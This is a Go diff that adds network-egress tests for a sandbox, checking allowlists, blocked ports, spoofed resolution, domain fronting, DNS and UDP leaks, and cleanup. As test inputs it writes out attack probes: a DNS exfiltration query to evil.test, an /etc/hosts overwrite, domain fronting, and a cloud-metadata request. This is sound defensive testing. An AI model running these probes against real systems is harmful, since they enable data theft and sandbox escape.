@@ -72,17 +72,236 @@ func NetworkSuite(t *testing.T, rt string) {
 	ca := fmt.Sprintf("cat > ca.pem <<'EOF'\n%sEOF\n", in.CertPEM)
 	curl := "curl -sS --max-time 20 --cacert ca.pem "
 
+	run := func(t *testing.T, name, cmd string) (string, int) {
+		t.Helper()
+		return sh(t, m, name, ca+cmd)
+	}
+	// curl's exit codes: 6 could not resolve, 7 could not connect
+	// (refused, unreachable), 35 TLS handshake failed, 56 receive
+	// failure (reset), 28 timeout — which must never happen here.
+	wantCurl := func(t *testing.T, name, args string, codes ...int) string {
+		t.Helper()
+		out, code := run(t, name, curl+args)
+		for _, c := range codes {
+			if c == code {
+				return out
+			}
+		}
+		t.Fatalf("curl %s: exit %d, want %v: %q", args, code, codes, out)
+		return ""
+	}
+
 	t.Run("01 allowed host over HTTP and HTTPS", func(t *testing.T) {
-		out, code := sh(t, m, box, ca+curl+"http://allowed.test/ && "+curl+"https://allowed.test/")
+		out, code := run(t, box, curl+"http://allowed.test/ && "+curl+"https://allowed.test/")
 		want := egresstest.Reply("allowed.test", "allowed.test", "") + egresstest.Reply("allowed.test", "allowed.test", "allowed.test")
 		if code != 0 || out != want {
 			t.Fatalf("exit %d: %q", code, out)
 		}
 	})
-	_ = e
-	_ = ip
+	t.Run("02 denied host: no name, no connection", func(t *testing.T) {
+		before := in.TotalHits()
+		wantCurl(t, box, "http://other.test/", 6)
+		// Even at its real address, named in the Host header or SNI.
+		wantCurl(t, box, "-H 'Host: other.test' http://"+ip("other.test")+"/", 52, 56)
+		wantCurl(t, box, "--resolve other.test:443:"+ip("other.test")+" https://other.test/", 35, 56)
+		if in.TotalHits() != before {
+			t.Fatal("a denied host was reached")
+		}
+	})
+	t.Run("03 glob vs apex vs exact", func(t *testing.T) {
+		if out := wantCurl(t, box, "https://deep.api.allowed.test/", 0); !strings.HasPrefix(out, "server=deep.api.allowed.test") {
+			t.Fatalf("glob: %q", out)
+		}
+		wantCurl(t, box, "https://api.allowed.test/", 6) // the glob's apex
+		wantCurl(t, box, "https://sub.allowed.test/", 6) // allowed.test is exact
+		if out := wantCurl(t, box, "http://ALLOWED.test./", 0); !strings.HasPrefix(out, "server=allowed.test") {
+			t.Fatalf("case and trailing dot: %q", out)
+		}
+	})
+	t.Run("04 port 8080 refused promptly", func(t *testing.T) {
+		wantCurl(t, box, "http://allowed.test:8080/", 7)
+		wantCurl(t, box, "http://"+ip("allowed.test")+":8080/", 7)
+		if in.Hits("allowed.test", 8080) != 0 {
+			t.Fatal("port 8080 was reached")
+		}
+	})
+	t.Run("05 spoofed name-to-address mapping", func(t *testing.T) {
+		// --resolve is /etc/hosts for one command: the client connects to
+		// evil.test's address, the connection goes to allowed.test.
+		out := wantCurl(t, box, "--resolve allowed.test:443:"+ip("evil.test")+" https://allowed.test/", 0)
+		if !strings.HasPrefix(out, "server=allowed.test") || in.Hits("evil.test", 443) != 0 {
+			t.Fatalf("got %q; evil.test hits %d", out, in.Hits("evil.test", 443))
+		}
+		// /etc/hosts itself is not the sandbox user's to change.
+		if _, code := run(t, box, "echo "+ip("evil.test")+" allowed.test >> /etc/hosts"); code == 0 {
+			t.Fatal("the sandbox user could write /etc/hosts")
+		}
+	})
+	t.Run("06 HTTPS to an IP address (no server name)", func(t *testing.T) {
+		wantCurl(t, box, "-k https://"+ip("allowed.test")+"/", 35, 56)
+	})
+	t.Run("07 domain fronting: SNI decides", func(t *testing.T) {
+		out := wantCurl(t, box, "-H 'Host: evil.test' https://allowed.test/", 0)
+		if out != egresstest.Reply("allowed.test", "evil.test", "allowed.test") {
+			t.Fatalf("%q", out)
+		}
+		wantCurl(t, box, "--resolve evil.test:443:"+e.Pool().Addr().Next().String()+" -H 'Host: allowed.test' https://evil.test/", 7, 35, 56)
+		if in.Hits("evil.test", 443) != 0 {
+			t.Fatal("evil.test was reached")
+		}
+	})
+	t.Run("08 IPv6 literals", func(t *testing.T) {
+		wantCurl(t, box, "-g 'http://[2001:db8::1]/'", 7)
+		wantCurl(t, box, "-g 'http://[fd00:ec2::254]/'", 7)
+	})
+	t.Run("09 UDP 443 (QUIC) and raw DNS to the outside", func(t *testing.T) {
+		py := `python3 - <<'PY'
+import socket, struct
+def q(server, name):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+    s.connect((server, 53))
+    qn = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    s.send(struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + qn + struct.pack(">HH", 1, 1))
+    r = s.recv(512)
+    return r[3] & 0xf, struct.unpack(">H", r[6:8])[0]
+print("dns", q("` + in.DNS.String() + `", "c2VjcmV0.evil.test"), q("` + in.DNS.String() + `", "allowed.test"))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
+u.connect(("` + ip("allowed.test") + `", 443)); u.send(b"quic initial")
+try:
+    u.recv(100); print("udp answered")
+except ConnectionRefusedError:
+    print("udp refused")
+except socket.timeout:
+    print("udp timeout")
+PY`
+		out, code := run(t, box, py)
+		// NXDOMAIN (3) with no answer; allowed.test answered (0) with one.
+		if code != 0 || !strings.Contains(out, "dns (3, 0) (0, 1)") || !strings.Contains(out, "udp refused") {
+			t.Fatalf("exit %d: %q", code, out)
+		}
+		if in.DNSQueries() != 0 || in.UDPPackets() != 0 {
+			t.Fatalf("packets left the sandbox: %d DNS, %d UDP", in.DNSQueries(), in.UDPPackets())
+		}
+	})
+	t.Run("10 metadata and private addresses refused under *", func(t *testing.T) {
+		set("star", "*")
+		out := wantCurl(t, "star", "https://other.test/", 0)
+		if !strings.HasPrefix(out, "server=other.test") {
+			t.Fatalf("* other.test: %q", out)
+		}
+		for _, u := range []string{"http://169.254.169.254/latest/meta-data/", "http://meta.test/", "http://private.test/", "http://10.0.0.1/", "http://self.test/"} {
+			wantCurl(t, "star", u, 52, 56)
+		}
+	})
+	t.Run("11 other sandboxes and the host unreachable", func(t *testing.T) {
+		// Every sandbox address of the first slots, and their host ends,
+		// on a port nothing is allowed to reach.
+		var cmds []string
+		pool := e.Pool().Addr().As4()
+		for n := 0; n < 8; n++ {
+			for _, k := range []byte{1, 2} {
+				a := netip.AddrFrom4([4]byte{pool[0], pool[1], pool[2], pool[3] + byte(4*n) + k})
+				cmds = append(cmds, fmt.Sprintf("curl -s --max-time 5 -o /dev/null http://%s:8000/; echo $?", a))
+			}
+		}
+		out, _ := run(t, box, strings.Join(cmds, "\n"))
+		for _, l := range strings.Fields(out) {
+			if l != "7" {
+				t.Fatalf("a sandbox or host address answered: %q", out)
+			}
+		}
+	})
+	t.Run("12 explicit proxy (CONNECT)", func(t *testing.T) {
+		gw := "http://" + "$(awk '/nameserver/{print $2}' /etc/resolv.conf):80"
+		out, code := run(t, box, "HTTPS_PROXY="+gw+" "+curl+"https://allowed.test/")
+		if code != 0 || !strings.HasPrefix(out, "server=allowed.test") {
+			t.Fatalf("exit %d: %q", code, out)
+		}
+		if _, code := run(t, box, "HTTPS_PROXY="+gw+" "+curl+"--resolve evil.test:443:1.2.3.4 https://evil.test/"); code != 56 {
+			t.Fatalf("CONNECT evil.test: exit %d, want 56 (proxy refused)", code)
+		}
+	})
+	t.Run("13 a sandbox without a policy has only loopback", func(t *testing.T) {
+		set("closed")
+		out, _ := run(t, "closed", `python3 -c 'import socket; print(" ".join(n for i, n in socket.if_nameindex()))'; curl -sS --max-time 5 http://allowed.test/; echo "exit $?"; curl -sS --max-time 5 http://`+ip("allowed.test")+`/; echo "exit $?"`)
+		if !strings.HasPrefix(out, "lo\n") || strings.Count(out, "exit 0") > 0 || strings.Contains(out, "exit 28") {
+			t.Fatalf("%q", out)
+		}
+	})
+	t.Run("14 network removed at sleep and destroy", func(t *testing.T) {
+		links := func() int {
+			ls, _ := netlink.LinkList()
+			n := 0
+			for _, l := range ls {
+				if strings.HasPrefix(l.Attrs().Name, "sge") {
+					n++
+				}
+			}
+			return n
+		}
+		before := links()
+		if err := m.Sleep(context.Background(), box); err != nil {
+			t.Fatal(err)
+		}
+		if links() != before-1 {
+			t.Fatalf("veths: %d before sleep, %d after", before, links())
+		}
+		// Woken again with the same policy.
+		if out := wantCurl(t, box, "http://allowed.test/", 0); !strings.HasPrefix(out, "server=allowed.test") {
+			t.Fatal(out)
+		}
+		for _, n := range []string{box, "star", "closed"} {
+			if err := m.Destroy(context.Background(), n); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if left := e.Leftovers(); len(left) > 0 || links() != before-2 {
+			t.Fatalf("left: %v, veths %d (had %d)", left, links(), before)
+		}
+	})
 	_ = time.Now
-	_ = strings.Contains
-	_ = netip.Addr{}
-	_ = netlink.LinkList
+}
+
+// NetworkCycles creates and destroys sandboxes with a policy n times and
+// checks that no veth, namespace or rule is left behind.
+func NetworkCycles(t *testing.T, rt string, n int) {
+	in := egresstest.New(t)
+	m, e, set := OpenNetwork(t, rt, in)
+	linksBefore := sgeLinks()
+	var setup time.Duration
+	for i := 0; i < n; i++ {
+		name := fmt.Sprintf("cyc%d", i)
+		set(name, "allowed.test")
+		t0 := time.Now()
+		if err := m.Create(context.Background(), name); err != nil {
+			t.Fatalf("cycle %d: %v", i, err)
+		}
+		setup += time.Since(t0)
+		if i%50 == 0 {
+			if out, code := sh(t, m, name, "curl -sS --max-time 10 http://allowed.test/"); code != 0 || !strings.HasPrefix(out, "server=allowed.test") {
+				t.Fatalf("cycle %d: exit %d %q", i, code, out)
+			}
+		}
+		if err := m.Destroy(context.Background(), name); err != nil {
+			t.Fatalf("cycle %d: destroy: %v", i, err)
+		}
+	}
+	t.Logf("%d create/destroy cycles on %s, %v per create on average", n, rt, setup/time.Duration(n))
+	if left := e.Leftovers(); len(left) > 0 {
+		t.Fatalf("left behind: %v", left)
+	}
+	if l := sgeLinks(); l != linksBefore {
+		t.Fatalf("veths: %d before, %d after", linksBefore, l)
+	}
+}
+
+func sgeLinks() int {
+	ls, _ := netlink.LinkList()
+	n := 0
+	for _, l := range ls {
+		if strings.HasPrefix(l.Attrs().Name, "sge") {
+			n++
+		}
+	}
+	return n
 }
